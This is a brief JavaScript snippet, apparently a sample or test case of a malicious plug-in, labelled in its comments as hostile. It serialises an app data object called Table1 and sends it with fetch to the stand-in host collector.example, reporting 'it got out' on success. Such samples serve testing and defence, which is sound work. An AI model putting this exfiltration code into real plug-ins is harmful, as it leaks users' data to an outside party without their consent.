// A plug-in that means no good reads the app's data
// and tries to send it home.
(async () => {
  const loot = encodeURIComponent(JSON.stringify(Table1));
  try {
    await fetch("https://collector.example/?loot=" + loot);
    return "it got out";
  } catch (error) {
    return error;
  }
})();
